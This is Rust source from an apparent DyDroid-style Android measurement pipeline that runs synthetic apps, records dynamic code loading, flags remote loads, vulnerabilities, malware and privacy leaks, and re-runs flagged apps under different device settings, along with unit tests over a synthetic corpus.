        let mut monkey_span = self.telemetry.span_with_parent("monkey", parent_span);
        let instructions_before = device.instructions_retired();
        let ic_before = device.ic_stats();
        let fires_before = device.hooks.fire_count();
        let exercised = monkey.exercise(device, package);
        // The avm contributes instruction-retirement, inline-cache and
        // hook-fire deltas to the monkey span and the run-wide counters.
        let instructions = device.instructions_retired() - instructions_before;
        let virtual_us = dydroid_monkey::virtual_us(instructions);
        let ic = device.ic_stats().since(&ic_before);
        let hook_fires = device.hooks.fire_count() - fires_before;
        if monkey_span.is_recording() {
            monkey_span.field("instructions", instructions);
            monkey_span.field("hook_fires", hook_fires);
            monkey_span.field("ic_hits", ic.hits());
            monkey_span.field("ic_misses", ic.misses());
            self.telemetry.counter_add("avm.instructions", instructions);
            self.telemetry.counter_add("avm.hook_fires", hook_fires);
            self.telemetry.counter_add("avm.ic_call_hits", ic.call_hits);
            self.telemetry
                .counter_add("avm.ic_call_misses", ic.call_misses);
            self.telemetry
                .counter_add("avm.ic_field_hits", ic.field_hits);
            self.telemetry
                .counter_add("avm.ic_field_misses", ic.field_misses);
            self.telemetry.counter_add("monkey.virtual_us", virtual_us);
        }
        let status = match exercised {
            Ok(ExerciseOutcome::NoActivity) => DynamicStatus::NoActivity,
            Ok(ExerciseOutcome::Exercised { crashed: true, .. }) => DynamicStatus::Crash,
            Ok(ExerciseOutcome::Exercised { crashed: false, .. }) => DynamicStatus::Exercised,
            Ok(ExerciseOutcome::DeadlineExceeded {
                events_fired,
                elapsed_ms,
            }) => {
                monkey_span.field("status", "deadline_exceeded");
                return (
                    DynamicOutcome::failure(format!(
                        "deadline exceeded after {events_fired} events: {elapsed_ms} ms charged, budget {} ms",
                        self.config.app_deadline_ms
                    )),
                    Vec::new(),
                    virtual_us,
                );
            }
            Err(_) => DynamicStatus::RewriteFailure,
        };
        monkey_span.field("status", status_label(&status));
        drop(monkey_span);
        if matches!(
            status,
            DynamicStatus::NoActivity | DynamicStatus::RewriteFailure
        ) {
            return (DynamicOutcome::empty(status), Vec::new(), virtual_us);
        }
        // Crashed apps count as failures in Table II (see
        // `AppRecord::dex_intercepted`), but the instrumentation still
        // recorded whatever loaded before the crash — the environment
        // re-runs of Table VIII rely on those events.

        // Collect DCL observations.
        let mut collect_span = self.telemetry.span_with_parent("collect", parent_span);
        let mut dex_events = Vec::new();
        let mut native_events = Vec::new();
        for event in device.log.dcl_events() {
            if !event.success {
                continue;
            }
            if event.kind.is_dex() {
                dex_events.push(event.clone());
            } else {
                native_events.push(event.clone());
            }
        }

        // Provenance via the download tracker.
        let mut remote_loads = Vec::new();
        for event in dex_events.iter().chain(native_events.iter()) {
            let urls = device.hooks.flow.url_sources(&event.path);
            if !urls.is_empty() {
                remote_loads.push((event.path.clone(), urls));
            }
        }
        remote_loads.sort();
        remote_loads.dedup();

        // Entity attribution from call sites.
        let dex_entity = EntityMix::from_call_sites(
            package,
            dex_events.iter().map(|e| e.call_site_class.as_str()),
        );
        let native_entity = EntityMix::from_call_sites(
            package,
            native_events.iter().map(|e| e.call_site_class.as_str()),
        );

        // Vulnerability classification over loaded paths.
        let vulns = dydroid_analysis::vuln::classify_all(
            package,
            &decompiled.manifest,
            dex_events
                .iter()
                .chain(native_events.iter())
                .map(|e| e.path.as_str()),
        );
        if collect_span.is_recording() {
            collect_span.field("dex_events", dex_events.len());
            collect_span.field("native_events", native_events.len());
            collect_span.field("remote_loads", remote_loads.len());
            collect_span.field("dropped_events", device.log.dropped_events());
            collect_span.field("flow_truncated", device.hooks.flow.truncated_edges());
            collect_span.field("flow_deduped", device.hooks.flow.duplicate_edges());
        }
        drop(collect_span);

        // Static analysis of intercepted binaries: each path analysed
        // once per app however many times it was loaded, and — through
        // the content-addressed cache — each unique byte content
        // analysed once per *sweep* however many apps load it. The
        // batch hands cold payloads to a small worker fan-out so their
        // detections (the indexed matcher) resolve in parallel.
        let mut seen_paths: HashSet<&str> = HashSet::new();
        let unique: Vec<_> = device
            .hooks
            .intercepted()
            .iter()
            .filter(|binary| seen_paths.insert(binary.path.as_str()))
            .collect();
        let contents: Vec<&[u8]> = unique.iter().map(|b| b.data.as_slice()).collect();
        let taint = TaintAnalysis::new();
        let mut analysis_span = self
            .telemetry
            .span_with_parent("binary_analysis", parent_span);
        // Delta marks cost shard locks, so take them only when recording.
        let marks = analysis_span
            .is_recording()
            .then(|| (self.cache.stats(), self.detector.stats()));
        let verdicts = self.cache.analyze_batch(
            &contents,
            &self.detector,
            &taint,
            self.config.effective_workers().min(BATCH_ANALYSIS_WORKERS),
        );
        if let Some((cache_mark, detector_mark)) = marks {
            let cache_delta = self.cache.stats().since(&cache_mark);
            let detector_delta = self.detector.stats().since(&detector_mark);
            analysis_span.field("binaries", unique.len());
            analysis_span.field("cache_hits", cache_delta.hits);
            analysis_span.field("cache_misses", cache_delta.misses);
            analysis_span.field("candidates", detector_delta.candidates);
            analysis_span.field("pruned", detector_delta.pruned);
            analysis_span.field("fully_scored", detector_delta.fully_scored);
        }
        drop(analysis_span);
        let mut malware = Vec::new();
        let mut leaks: Vec<Leak> = Vec::new();
        let mut leak_seen: HashSet<Leak> = HashSet::new();
        let mut leak_classes: HashMap<PrivacyType, Vec<String>> = HashMap::new();
        let mut path_leaks: Vec<(String, String)> = Vec::new();
        for (binary, verdict) in unique.iter().zip(&verdicts) {
            let BinaryVerdict::Parsed {
                native,
                malware: family_hit,
                leaks: binary_leaks,
            } = &**verdict
            else {
                continue;
            };
            if let Some(hit) = family_hit {
                malware.push(MalwareHit {
                    path: binary.path.clone(),
                    family: hit.family.clone(),
                    score: hit.score,
                    native: *native,
                });
            }
            for leak in binary_leaks {
                leak_classes
                    .entry(leak.privacy)
                    .or_default()
                    .push(leak.class.clone());
                path_leaks.push((binary.path.clone(), format!("{:?}", leak.privacy)));
                if leak_seen.insert(leak.clone()) {
                    leaks.push(leak.clone());
                }
            }
        }
        path_leaks.sort();
        path_leaks.dedup();
        let mut leak_types: Vec<LeakSummary> = leak_classes
            .into_iter()
            .map(|(privacy, classes)| LeakSummary {
                privacy,
                exclusively_third_party: classes.iter().all(|c| {
                    dydroid_analysis::entity::classify(package, c)
                        == dydroid_analysis::Entity::ThirdParty
                }),
            })
            .collect();
        leak_types.sort_by_key(|l| l.privacy);

        (
            DynamicOutcome {
                status,
                dex_events,
                native_events,
                remote_loads,
                dex_entity,
                native_entity,
                vulns,
                malware,
                leaks,
                leak_types,
            },
            path_leaks,
            virtual_us,
        )
    }
}

/// Per-shard writers of the three persistent streams during a sharded
/// multi-writer sweep. Apps are routed by APK content hash (the same
/// key the analysis cache stripes on), so each worker appends to the
/// shard owning its current app with no collector bottleneck; the
/// shards are merged back into the canonical single-file streams by
/// `finalize` and by [`Pipeline::recover_all`] after a crash.
struct StreamShards {
    shards: Vec<Mutex<ShardStreams>>,
    /// Appends that found their shard mutex held by another worker
    /// (they block and proceed; the count sizes the contention report).
    contention: AtomicU64,
}

struct ShardStreams {
    journal: crate::sweep::JournalWriter,
    ledger: Option<crate::provenance::LedgerWriter>,
}

impl StreamShards {
    /// Opens `count` shard triplets beside `journal` (journal + ledger
    /// writers here, event sinks registered with the telemetry layer).
    /// Per-shard frame sequences continue from each shard file's valid
    /// prefix, exactly like the base streams.
    fn open(
        pipeline: &Pipeline,
        journal: &crate::sweep::Journal,
        ledger_active: bool,
        count: usize,
        io_state: &Arc<IoState>,
    ) -> std::io::Result<StreamShards> {
        let mut shards = Vec::with_capacity(count);
        let mut event_paths = Vec::with_capacity(count);
        for k in 0..count {
            let journal_writer = journal
                .shard(k)
                .writer_with(pipeline.sink_options(StreamKind::Journal, io_state))?;
            let ledger = ledger_active
                .then(|| {
                    ProvenanceLedger::new(journal.shard_provenance_path(k))
                        .writer_with(pipeline.sink_options(StreamKind::Ledger, io_state))
                })
                .transpose()?;
            shards.push(Mutex::new(ShardStreams {
                journal: journal_writer,
                ledger,
            }));
            event_paths.push(journal.shard_events_path(k));
        }
        if pipeline.telemetry.is_enabled() {
            pipeline.telemetry.set_sharded_event_sinks(
                &event_paths,
                &pipeline.sink_options(StreamKind::Events, io_state),
            )?;
        }
        Ok(StreamShards {
            shards,
            contention: AtomicU64::new(0),
        })
    }

    /// The shard owning `app`, by APK content hash.
    fn shard_of(&self, app: &SyntheticApp) -> usize {
        (content_hash(&app.apk) % self.shards.len() as u64) as usize
    }

    /// Appends one completed app to its shard, holding the shard lock
    /// through the journal append → checkpoint → ledger append →
    /// provenance-link quad so the virtual op clock orders the four
    /// writes as a unit — the per-segment recovery intersection depends
    /// on that ordering.
    fn append(
        &self,
        k: usize,
        record: &AppRecord,
        provenance: Option<&AppProvenance>,
        span_id: u64,
        telemetry: &Telemetry,
    ) {
        let mut shard = match self.shards[k].try_lock() {
            Ok(guard) => guard,
            Err(TryLockError::WouldBlock) => {
                self.contention.fetch_add(1, Ordering::Relaxed);
                match self.shards[k].lock() {
                    Ok(guard) => guard,
                    Err(poisoned) => poisoned.into_inner(),
                }
            }
            Err(TryLockError::Poisoned(poisoned)) => poisoned.into_inner(),
        };
        match shard.journal.append(record) {
            Ok(()) => telemetry.emit_checkpoint(&record.package, span_id),
            Err(e) => eprintln!(
                "dydroid: shard {k} journal append failed for {}: {e}",
                record.package
            ),
        }
        if let (Some(writer), Some(provenance)) = (shard.ledger.as_mut(), provenance) {
            match writer.append(provenance) {
                Ok(()) => telemetry.emit_provenance_link(&record.package, span_id),
                Err(e) => eprintln!(
                    "dydroid: shard {k} ledger append failed for {}: {e}",
                    record.package
                ),
            }
        }
    }

    /// Total contended shard appends so far.
    fn contention(&self) -> u64 {
        self.contention.load(Ordering::Relaxed)
    }
}

/// Scheduler/shard accounting of one sweep, carried into [`SweepStats`].
#[derive(Debug, Default)]
struct SweepPerf {
    worker_stats: Vec<WorkerStats>,
    stream_shards: usize,
    shard_contention: u64,
}

/// The live observability rig of one sweep (DESIGN.md §5j): the durable
/// metrics snapshot stream and the straggler watchdog, fed by the
/// collector as apps complete. Built only when telemetry is enabled and
/// at least one of its pieces is configured on, so the disabled fast
/// path stays a single branch per app.
#[derive(Debug)]
struct Observatory {
    metrics: Option<MetricsStream>,
    watchdog: Option<Mutex<Watchdog>>,
    /// Flagged stragglers paired with their app span ids, so assemble
    /// can fill per-phase breakdowns from the spans' children.
    stragglers: Mutex<Vec<(StragglerEntry, u64)>>,
}

/// The durable metrics snapshot stream: the full metrics registry,
/// CRC-framed to `<journal>.metrics.jsonl` every time the deterministic
/// virtual clock (`monkey.virtual_us`) advances by the configured
/// interval. First stream to shed under disk pressure; resume-stitched
/// (the writer continues from the file's valid prefix) like every other
/// stream.
#[derive(Debug)]
struct MetricsStream {
    writer: Mutex<FramedWriter>,
    /// `monkey.virtual_us` at the last snapshot.
    last_mark: AtomicU64,
    interval_us: u64,
}

impl Observatory {
    /// Builds the rig for one run. `None` when telemetry is off or every
    /// piece is disabled; the metrics stream additionally needs a
    /// journal to sit beside.
    fn open(
        pipeline: &Pipeline,
        journal: Option<&crate::sweep::Journal>,
        io_state: &Arc<IoState>,
    ) -> Option<Observatory> {
        if !pipeline.telemetry.is_enabled() {
            return None;
        }
        let config = &pipeline.config;
        let metrics = journal
            .filter(|_| config.metrics_interval_us > 0)
            .and_then(|journal| {
                let path = journal.metrics_path();
                match FramedWriter::open(
                    &path,
                    pipeline.sink_options(StreamKind::Metrics, io_state),
                ) {
                    Ok(writer) => Some(MetricsStream {
                        writer: Mutex::new(writer),
                        last_mark: AtomicU64::new(
                            pipeline.telemetry.counter_value("monkey.virtual_us"),
                        ),
                        interval_us: config.metrics_interval_us,
                    }),
                    Err(e) => {
                        eprintln!(
                            "dydroid: failed to open metrics stream {}: {e}",
                            path.display()
                        );
                        None
                    }
                }
            });
        let watchdog =
            (config.watchdog_k > 1.0).then(|| Mutex::new(Watchdog::new(config.watchdog_k)));
        if metrics.is_none() && watchdog.is_none() {
            return None;
        }
        Some(Observatory {
            metrics,
            watchdog,
            stragglers: Mutex::new(Vec::new()),
        })
    }

    /// Collector hook, once per completed app: feeds the watchdog the
    /// app's deterministic virtual cost (static-only apps charge none
    /// and are not observations) and cuts a metrics snapshot when the
    /// virtual clock has advanced a full interval.
    fn on_app_done(&self, pipeline: &Pipeline, package: &str, span_id: u64, virtual_us: u64) {
        if virtual_us > 0 {
            if let Some(watchdog) = &self.watchdog {
                let flagged = watchdog.lock().ok().and_then(|mut w| w.observe(virtual_us));
                if let Some(median) = flagged {
                    pipeline.telemetry.counter_add("watchdog.stragglers", 1);
                    pipeline.telemetry.emit_warning(
                        "straggler",
                        package,
                        &[("virtual_us", virtual_us), ("median_us", median)],
                    );
                    if let Ok(mut stragglers) = self.stragglers.lock() {
                        stragglers.push((
                            StragglerEntry {
                                package: package.to_string(),
                                virtual_us,
                                median_virtual_us: median,
                                phases: Vec::new(),
                            },
                            span_id,
                        ));
                    }
                }
            }
        }
        if let Some(stream) = &self.metrics {
            let now = pipeline.telemetry.counter_value("monkey.virtual_us");
            if now.saturating_sub(stream.last_mark.load(Ordering::Relaxed)) >= stream.interval_us {
                stream.last_mark.store(now, Ordering::Relaxed);
                stream.snapshot(pipeline, now);
            }
        }
    }

    /// End-of-sweep: one final snapshot (so a completed run's stream
    /// always ends on the full registry) and an fsync.
    fn finish(&self, pipeline: &Pipeline) {
        if let Some(stream) = &self.metrics {
            let now = pipeline.telemetry.counter_value("monkey.virtual_us");
            stream.last_mark.store(now, Ordering::Relaxed);
            stream.snapshot(pipeline, now);
            if let Ok(mut writer) = stream.writer.lock() {
                if let Err(e) = writer.sync_now() {
                    eprintln!("dydroid: metrics stream sync failed: {e}");
                }
            }
        }
    }

    /// Drains the flagged stragglers (with span ids) and the total flag
    /// count, for [`SweepStats`].
    fn take_stragglers(&self) -> (u64, Vec<(StragglerEntry, u64)>) {
        let flagged = self
            .watchdog
            .as_ref()
            .and_then(|w| w.lock().ok())
            .map_or(0, |w| w.flagged());
        let entries = self
            .stragglers
            .lock()
            .map(|mut s| std::mem::take(&mut *s))
            .unwrap_or_default();
        (flagged, entries)
    }
}

impl MetricsStream {
    /// Serializes the full registry as one framed
    /// `{"type":"metrics","virtual_us":…,"snapshot":…}` record. Write
    /// failures degrade to a counter plus a single warning — snapshots
    /// are derived data; losing one never corrupts the run.
    fn snapshot(&self, pipeline: &Pipeline, virtual_us: u64) {
        let snapshot = pipeline.telemetry.snapshot();
        let Ok(json) = serde_json::to_string(&snapshot) else {
            return;
        };
        let body =
            format!("{{\"type\":\"metrics\",\"virtual_us\":{virtual_us},\"snapshot\":{json}}}");
        if let Ok(mut writer) = self.writer.lock() {
            if let Err(e) = writer.append_body(&body) {
                pipeline
                    .telemetry
                    .counter_add("telemetry.metrics_write_errors", 1);
                if pipeline
                    .telemetry
                    .counter_value("telemetry.metrics_write_errors")
                    == 1
                {
                    eprintln!("dydroid: metrics stream: write failed ({e}); degrading");
                }
            }
        }
    }
}

/// Manifest-entry ceiling of the resource-sanity guard (permissions +
/// components); real store apps sit orders of magnitude below this.
pub const MANIFEST_SANITY_LIMIT: usize = 4_096;

/// Per-app ceiling on the batch-analysis fan-out. Each sweep worker may
/// open its own batch, so this stays small to bound transient
/// oversubscription; the fan-out only happens when an app produced at
/// least two distinct cold payloads.
pub const BATCH_ANALYSIS_WORKERS: usize = 4;

/// Mixed into the Monkey seed on reseeded retry attempts.
const RETRY_SEED_SALT: u64 = 0x9E37_79B9_7F4A_7C15;

/// `(decompiled, filter, obfuscation)` from the cheap static phases.
type StaticPhases = (bool, DclFilter, ObfuscationReport);

/// One collected sweep result: corpus index, record, provenance graph.
type SweepItem = (usize, AppRecord, Option<AppProvenance>);

/// What [`Pipeline::recover_all`] reconciled out of the three persistent
/// streams (journal, provenance ledger, telemetry events) of an
/// interrupted journaled run.
#[derive(Debug, Default)]
pub struct RecoveryOutcome {
    /// Journal records of the longest mutually consistent prefix, in
    /// journal order: every active stream holds each of these apps.
    pub records: Vec<AppRecord>,
    /// Recovered provenance graphs for exactly the consistent apps.
    pub provenance: Vec<AppProvenance>,
    /// Corrupt or torn journal frames dropped during recovery.
    pub journal_dropped: usize,
    /// Corrupt or torn ledger frames dropped during recovery.
    pub ledger_dropped: usize,
    /// Corrupt or torn event frames dropped during recovery.
    pub events_dropped: usize,
    /// Packages present in at least one stream but not all (sorted);
    /// these are re-analysed on resume.
    pub inconsistent: Vec<String>,
    /// The quarantine ledger after this reconciliation: interrupted
    /// attempts accumulated per package across resumes.
    pub quarantine: Vec<QuarantineEntry>,
    /// Packages at or over [`PipelineConfig::quarantine_threshold`]
    /// (sorted); [`Pipeline::run_resumable`] records these as analysis
    /// failures instead of re-analysing them.
    pub quarantined: Vec<String>,
}

/// One segment's reconciliation: the longest mutually consistent prefix
/// of a (journal, ledger, events) triplet — the base streams or one
/// shard's — before the per-segment results are merged.
#[derive(Debug, Default)]
struct SegmentRecovery {
    records: Vec<AppRecord>,
    provenance: Vec<AppProvenance>,
    journal_dropped: usize,
    ledger_dropped: usize,
    events_dropped: usize,
    inconsistent: BTreeSet<String>,
    journal_count: usize,
    checkpoints: Option<HashSet<String>>,
}

/// Marks of the monotonic avm telemetry counters taken at sweep start,
/// so [`Pipeline::assemble`] can report per-run deltas.
#[derive(Debug, Default, Clone, Copy)]
struct AvmMarks {
    events_dropped: u64,
    flow_truncated: u64,
    flow_deduped: u64,
    ic_call_hits: u64,
    ic_call_misses: u64,
    ic_field_hits: u64,
    ic_field_misses: u64,
}

/// Recovery counts carried into [`Pipeline::assemble`] for [`SweepStats`].
#[derive(Debug, Default)]
struct RecoverySummary {
    recovered: u64,
    dropped: u64,
    inconsistent: u64,
    quarantined: Vec<String>,
}

/// Uniform stream-recovery warning, emitted only when frames were lost.
fn warn_recovered(stream: &str, path: &Path, recovered: usize, dropped: usize) {
    if dropped > 0 {
        eprintln!(
            "dydroid: {stream} {}: recovered {recovered} record(s), dropped {dropped} corrupt frame(s)",
            path.display()
        );
    }
}

/// One line of the canonical (finalized) event stream: a bare per-app
/// fact, free of span ids and timestamps so the finalized stream is
/// byte-identical however the sweep interleaved.
fn canonical_event(package: &str, kind: &str) -> String {
    serde::Value::Object(vec![
        ("type".to_string(), serde::Value::Str(kind.to_string())),
        ("app".to_string(), serde::Value::Str(package.to_string())),
    ])
    .to_compact_string()
}

/// Stable label for a [`DynamicStatus`], used as a span field value.
fn status_label(status: &DynamicStatus) -> &'static str {
    match status {
        DynamicStatus::Exercised => "exercised",
        DynamicStatus::Crash => "crash",
        DynamicStatus::NoActivity => "no_activity",
        DynamicStatus::RewriteFailure => "rewrite_failure",
        DynamicStatus::AnalysisFailure { .. } => "harness_failure",
    }
}

/// Span-field verdict for a completed app record (also the provenance
/// ledger's per-app verdict label).
pub(crate) fn verdict_label(record: &AppRecord) -> &'static str {
    match record.dynamic.as_ref() {
        None => "static_only",
        Some(outcome) => status_label(&outcome.status),
    }
}

/// Best-effort extraction of a panic payload's message.
fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "opaque panic payload".to_string()
    }
}

pub(crate) fn hash_pkg(pkg: &str) -> u64 {
    pkg.bytes().fold(0xcbf29ce484222325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x100000001b3)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_workload::{generate, CorpusSpec};

    fn tiny_corpus() -> Vec<SyntheticApp> {
        generate(&CorpusSpec {
            scale: 0.004, // ~235 apps
            seed: 99,
        })
    }

    #[test]
    fn empty_corpus_is_fine() {
        let pipeline = Pipeline::new(PipelineConfig {
            environment_reruns: true,
            ..Default::default()
        });
        let report = pipeline.run(&[]);
        assert!(report.records().is_empty());
        assert_eq!(report.env_counts().total_files, 0);
        // All tables render from nothing.
        let _ = report.render_all();
    }

    #[test]
    fn report_serialises_to_json_and_back() {
        let corpus = tiny_corpus();
        let pipeline = Pipeline::new(PipelineConfig {
            environment_reruns: false,
            workers: 2,
            ..Default::default()
        });
        let report = pipeline.run(&corpus[..20.min(corpus.len())]);
        let json = serde_json::to_string(&report).expect("serialise");
        let back: MeasurementReport = serde_json::from_str(&json).expect("deserialise");
        assert_eq!(back.table2(), report.table2());
        assert_eq!(back.records().len(), report.records().len());
    }

    #[test]
    fn pipeline_runs_over_tiny_corpus() {
        let corpus = tiny_corpus();
        let pipeline = Pipeline::new(PipelineConfig {
            workers: 2,
            environment_reruns: false,
            ..Default::default()
        });
        let report = pipeline.run(&corpus);
        assert_eq!(report.records().len(), corpus.len());
        // Somebody must have been intercepted.
        assert!(report.records().iter().any(AppRecord::dex_intercepted));
        assert!(report.records().iter().any(AppRecord::native_intercepted));
    }

    #[test]
    fn anti_decompilation_app_recorded() {
        let corpus = tiny_corpus();
        let pipeline = Pipeline::new(PipelineConfig {
            workers: 1,
            environment_reruns: false,
            ..Default::default()
        });
        let app = corpus
            .iter()
            .find(|a| a.plan.anti_decompilation)
            .expect("plan includes anti-decompilation apps");
        let record = pipeline.analyze_app(app);
        assert!(!record.decompiled);
        assert!(record.obfuscation.anti_decompilation);
        assert!(record.dynamic.is_none());
    }

    #[test]
    fn remote_fetch_app_detected_as_remote() {
        let corpus = tiny_corpus();
        let pipeline = Pipeline::new(PipelineConfig::default());
        let app = corpus
            .iter()
            .find(|a| a.plan.remote_fetch)
            .expect("plan includes remote-fetch apps");
        let record = pipeline.analyze_app(app);
        let dynamic = record.dynamic.expect("dynamic phase ran");
        assert_eq!(dynamic.status, DynamicStatus::Exercised);
        assert!(!dynamic.remote_loads.is_empty(), "must be flagged remote");
        assert!(dynamic.remote_loads[0].1[0].contains("mobads.baidu.com"));
        assert!(dynamic.dex_entity.third_party);
    }

    #[test]
    fn malware_app_detected() {
        let corpus = tiny_corpus();
        let pipeline = Pipeline::new(PipelineConfig::default());
        let app = corpus
            .iter()
            .find(|a| {
                matches!(
                    a.plan.malware,
                    Some((dydroid_workload::MalwareFamily::ChathookPtrace, _))
                ) && a
                    .plan
                    .malware
                    .as_ref()
                    .map(|(_, t)| t.iter().all(|x| *x == dydroid_workload::TriggerSet::none()))
                    .unwrap_or(false)
            })
            .or_else(|| corpus.iter().find(|a| a.plan.malware.is_some()));
        if let Some(app) = app {
            let record = pipeline.analyze_app(app);
            let dynamic = record.dynamic.expect("dynamic phase ran");
            // Under the baseline environment every trigger fires, so the
            // payload loads and must be flagged.
            assert!(
                !dynamic.malware.is_empty(),
                "expected detection for {}: {dynamic:?}",
                app.plan.package
            );
        }
    }

    #[test]
    fn crash_app_categorised() {
        let corpus = tiny_corpus();
        let pipeline = Pipeline::new(PipelineConfig::default());
        let app = corpus
            .iter()
            .find(|a| a.plan.crash_on_launch)
            .expect("plan includes crash apps");
        let record = pipeline.analyze_app(app);
        assert_eq!(record.dynamic.unwrap().status, DynamicStatus::Crash);
    }

    #[test]
    fn rewrite_failure_categorised() {
        let corpus = tiny_corpus();
        let pipeline = Pipeline::new(PipelineConfig::default());
        let app = corpus
            .iter()
            .find(|a| a.plan.anti_repackaging)
            .expect("plan includes anti-repackaging apps");
        let record = pipeline.analyze_app(app);
        assert_eq!(
            record.dynamic.unwrap().status,
            DynamicStatus::RewriteFailure
        );
        assert!(!record.rewritten);
    }

    #[test]
    fn vulnerable_app_flagged() {
        let corpus = tiny_corpus();
        let pipeline = Pipeline::new(PipelineConfig::default());
        let app = corpus
            .iter()
            .find(|a| matches!(a.plan.vuln, Some(dydroid_workload::VulnPlan::DexExternal)))
            .expect("plan includes vulnerable apps");
        let record = pipeline.analyze_app(app);
        let dynamic = record.dynamic.unwrap();
        assert!(dynamic
            .vulns
            .iter()
            .any(|v| matches!(v, VulnKind::ExternalStorage)));
    }

    #[test]
    fn privacy_leaks_surface_in_record() {
        let corpus = tiny_corpus();
        let pipeline = Pipeline::new(PipelineConfig::default());
        let app = corpus
            .iter()
            .find(|a| a.plan.google_ads)
            .expect("plan includes ad apps");
        let record = pipeline.analyze_app(app);
        let dynamic = record.dynamic.unwrap();
        assert!(dynamic
            .leak_types
            .iter()
            .any(|l| l.privacy == PrivacyType::Settings && l.exclusively_third_party));
    }
}
