//! Runtime-environment re-runs (Table VIII).
//!
//! Every app whose loaded code was flagged as malware is re-executed under
//! the paper's four configurations — system time before release, airplane
//! mode with WiFi re-enabled, airplane mode fully offline, and location
//! service disabled — counting how many of the malicious files are still
//! loaded in each.
//!
//! The re-runs are **decompile-once and parallel**: each flagged app is
//! decompiled and rewritten a single time, then the (app × config) pairs
//! fan out over the same worker pool the sweep uses. The pre-optimization
//! serial path (one decompile per app per configuration) survives as
//! [`rerun_all_serial`] for differential tests and the `sweepbench`
//! baseline, selectable via `PipelineConfig::serial_env_reruns`.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::OnceLock;

use dydroid_analysis::decompiler::{self, DecompiledApp};
use dydroid_avm::DeviceConfig;
use dydroid_workload::emit::RELEASE_MS;
use dydroid_workload::SyntheticApp;
use serde::{Deserialize, Serialize};

use crate::pipeline::{AppRecord, Pipeline};

/// Malicious-file load counts per configuration.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnvCounts {
    /// Total malicious files observed in the baseline run.
    pub total_files: usize,
    /// Files loaded with the system time set before the release date.
    pub time_before_release: usize,
    /// Files loaded under airplane mode with WiFi re-enabled.
    pub airplane_wifi_on: usize,
    /// Files loaded under airplane mode fully offline.
    pub airplane_wifi_off: usize,
    /// Files loaded with the location service disabled.
    pub location_off: usize,
}

/// The four non-baseline configurations, in Table VIII order.
pub fn configurations() -> [(&'static str, DeviceConfig); 4] {
    let base = DeviceConfig::default();
    [
        (
            "System time",
            DeviceConfig {
                time_ms: RELEASE_MS - 86_400_000,
                ..base.clone()
            },
        ),
        (
            "Airplane mode/WiFi ON",
            DeviceConfig {
                airplane_mode: true,
                wifi_on: true,
                ..base.clone()
            },
        ),
        (
            "Airplane mode/WiFi OFF",
            DeviceConfig {
                airplane_mode: true,
                wifi_on: false,
                ..base.clone()
            },
        ),
        (
            "Location OFF",
            DeviceConfig {
                location_enabled: false,
                ..base
            },
        ),
    ]
}

/// A once-written slot holding one flagged app's decompilation and
/// rewritten install bytes (`None` if preparation failed).
type PreparedSlot = OnceLock<Option<(DecompiledApp, Vec<u8>)>>;

/// The malware-flagged subset of the corpus with their malicious paths.
fn flagged_apps<'c>(
    corpus: &'c [SyntheticApp],
    records: &[AppRecord],
) -> Vec<(&'c SyntheticApp, Vec<String>)> {
    corpus
        .iter()
        .zip(records)
        .filter_map(|(app, record)| {
            let dynamic = record.dynamic.as_ref()?;
            if dynamic.malware.is_empty() {
                return None;
            }
            let paths: Vec<String> = dynamic.malware.iter().map(|m| m.path.clone()).collect();
            Some((app, paths))
        })
        .collect()
}

/// Re-runs every malware-flagged app under the four configurations:
/// decompile/rewrite once per app, then fan the (app × config) pairs out
/// over the worker pool. Per-config counts are order-independent sums,
/// so the result is identical to [`rerun_all_serial`].
pub fn rerun_all(pipeline: &Pipeline, corpus: &[SyntheticApp], records: &[AppRecord]) -> EnvCounts {
    if pipeline.config().serial_env_reruns {
        return rerun_all_serial(pipeline, corpus, records);
    }
    let flagged = flagged_apps(corpus, records);
    let mut counts = EnvCounts {
        total_files: flagged.iter().map(|(_, paths)| paths.len()).sum(),
        ..EnvCounts::default()
    };
    if flagged.is_empty() {
        return counts;
    }
    let configs = configurations();
    let workers = pipeline
        .config()
        .effective_workers()
        .min(flagged.len() * configs.len());

    // Phase 1: decompile + rewrite each flagged app exactly once, in
    // parallel. Slots are OnceLocks so each is written by one worker.
    let prepared: Vec<PreparedSlot> = (0..flagged.len()).map(|_| OnceLock::new()).collect();
    let next = AtomicUsize::new(0);
    let scope_result = crossbeam::thread::scope(|scope| {
        for _ in 0..workers.min(flagged.len()) {
            scope.spawn(|_| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= flagged.len() {
                    break;
                }
                let app = flagged[i].0;
                let p = decompiler::prepare_for_dynamic_analysis(&app.apk)
                    .ok()
                    .map(|(decompiled, bytes, _)| (decompiled, bytes));
                let _ = prepared[i].set(p);
            });
        }
    });
    if scope_result.is_err() {
        eprintln!(
            "dydroid: an environment prepare thread panicked; continuing with what was prepared"
        );
    }

    // Phase 2: the (app × config) pairs, atomically summed per config.
    let loaded: [AtomicUsize; 4] = Default::default();
    let next = AtomicUsize::new(0);
    let pairs = flagged.len() * configs.len();
    let scope_result = crossbeam::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|_| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= pairs {
                    break;
                }
                let (a, c) = (i / configs.len(), i % configs.len());
                let Some(Some((decompiled, bytes))) = prepared[a].get() else {
                    continue;
                };
                let (app, paths) = &flagged[a];
                let (name, config) = &configs[c];
                let n = count_loaded(pipeline, app, name, config, decompiled, bytes, paths);
                loaded[c].fetch_add(n, Ordering::Relaxed);
            });
        }
    });
    if scope_result.is_err() {
        eprintln!("dydroid: an environment re-run thread panicked; counts may be partial");
    }
    counts.time_before_release = loaded[0].load(Ordering::Relaxed);
    counts.airplane_wifi_on = loaded[1].load(Ordering::Relaxed);
    counts.airplane_wifi_off = loaded[2].load(Ordering::Relaxed);
    counts.location_off = loaded[3].load(Ordering::Relaxed);
    counts
}

/// The pre-optimization serial re-run path: one decompile + rewrite per
/// app **per configuration**, on the calling thread. Reference
/// implementation for the differential tests and the `sweepbench`
/// uncached-serial baseline.
pub fn rerun_all_serial(
    pipeline: &Pipeline,
    corpus: &[SyntheticApp],
    records: &[AppRecord],
) -> EnvCounts {
    let mut counts = EnvCounts::default();
    let configs = configurations();
